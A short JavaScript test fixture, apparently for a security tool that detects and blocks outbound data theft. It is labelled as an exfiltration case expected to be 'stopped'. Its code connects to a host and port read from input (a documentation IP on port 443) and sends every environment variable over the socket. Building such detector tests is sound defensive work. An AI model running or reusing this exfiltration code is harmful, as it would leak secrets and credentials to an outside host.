// expect: detected
// threat: 24 exfiltration
// at: either
// family: egress
// severity: medium
// decision: stopped
// stdin: 203.0.113.9 443

const [host, port] = require('fs').readFileSync(0, 'utf8').trim().split(' ');
const socket = require('net').connect(Number(port), host);
socket.on('connect', () => socket.end(JSON.stringify(process.env)));
socket.on('error', (error) => console.log(error.code));
